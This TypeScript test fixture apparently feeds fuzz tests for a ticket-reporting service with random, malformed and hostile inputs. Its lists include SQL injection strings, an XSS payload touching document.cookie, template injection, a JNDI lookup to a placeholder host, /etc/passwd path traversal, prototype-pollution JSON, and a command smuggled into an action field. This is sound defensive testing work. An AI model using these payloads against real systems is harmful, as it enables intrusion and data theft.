import type { Random } from './random'

/** Every kind of line break there is, in 12,000 signs. */
const breaks = ['\r\n', '\r', '\n', '\u0085', '\u2028', '\u2029', '\v', '\f', '\u0000']
export const longText = Array.from({ length: 1_500 }, (_, i) => `第${i % 90}行${breaks[i % breaks.length] ?? ''}`)
  .join('')
  .padEnd(12_000, '灯')
  .slice(0, 12_000)

/** Texts that somebody might type, or send on purpose. All of them are only words. */
export const texts: readonly string[] = [
  '楼下的路灯坏了三天。',
  longText,
  `'; drop table ticket; --`,
  `' or 1=1 --`,
  '%_\\',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://example.invalid/a}',
  '👨‍👩‍👧‍👦😀🇨🇳 e\u0301 \u200b\u200d',
  '半个\ud83d字,另一半\ude00',
  'NUL\u0000在中间,还有\u0001\u001b[31m',
  '\u202e反着写\u2066',
  '１２３４５６７８９０ ＡＢＣ 　全角',
  '../../../etc/passwd\u0000.jpg',
  '\ufeff带BOM',
  '__proto__',
  'null',
  'a',
  '𠮷野家'.repeat(20),
]

const many = (count: number): unknown => Array.from({ length: count }, (_, i) => i)
const nested = (depth: number): unknown => {
  let value: unknown = 'bottom'
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { in: value } : [value]
  return value
}

/** Things that no field wants. */
export const wrong: readonly unknown[] = [
  undefined,
  null,
  true,
  0,
  -1,
  1.5,
  2 ** 31,
  1e308,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  '',
  ' \u3000\n ',
  [],
  {},
  [[]],
  [null],
  many(500),
  nested(2_000),
  { toString: 'x', valueOf: 'y', length: 3 },
  JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
  '灯'.repeat(40_000),
  '2026-02-30T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '0001-01-01T00:00:00Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  Buffer.from('["foo 1","00000000-0000-0000-0000-000000000000"]').toString('base64url'),
  Buffer.from('["0001-01-01T00:00:00.000Z","00000000-0000-0000-0000-000000000000"]').toString('base64url'),
  Buffer.from('["2026-02-30T00:00:00.000Z","00000000-0000-0000-0000-000000000000"]').toString('base64url'),
  'cloud://test/incoming/../photo/a.jpg',
]

/** Events that are no call at all. */
export const events: readonly unknown[] = [
  null,
  undefined,
  'submit',
  42,
  [],
  {},
  { action: null },
  { action: '__proto__', input: {} },
  { action: 'constructor', input: {} },
  { action: 'toString' },
  { action: 'hasOwnProperty', input: 'x' },
  { action: ['submit'], input: {} },
  { action: 'SUBMIT', input: {} },
  { action: 'submit; drop table ticket' },
  { Type: 'Timer', TriggerName: 'ticket-due', Time: 'now' },
  { Type: 'Timer', TriggerName: '__proto__' },
  { TriggerName: 'ticket-due', action: 'mine', input: {} },
  JSON.parse('{"action":"me","input":{},"__proto__":{"door":"timer"}}'),
]

/** Changes one thing somewhere in an input: a field replaced, dropped, added, or the whole of it. */
export const spoil = (random: Random, input: unknown): unknown => {
  if (random.chance(0.03)) return random.pick(wrong)
  if (Array.isArray(input))
    return input.length === 0 || random.chance(0.3)
      ? [...(input as unknown[]), random.pick(wrong)]
      : input.map((item, i) => (i === 0 ? spoil(random, item) : item))
  if (typeof input !== 'object' || input === null) return random.chance(0.5) ? random.pick(wrong) : random.pick(texts)
  const fields = Object.entries(input)
  if (fields.length === 0 || random.chance(0.1))
    return { ...input, [random.pick(['extra', 'state', 'role', 'constructor', 'version', '灯'])]: random.pick(wrong) }
  const at = random.below(fields.length)
  if (random.chance(0.1)) return Object.fromEntries(fields.filter((_, i) => i !== at))
  return Object.fromEntries(
    fields.map(([key, value], i) => [
      key,
      i === at ? (random.chance(0.4) ? spoil(random, value) : random.pick([...wrong, ...texts])) : value,
    ]),
  )
}
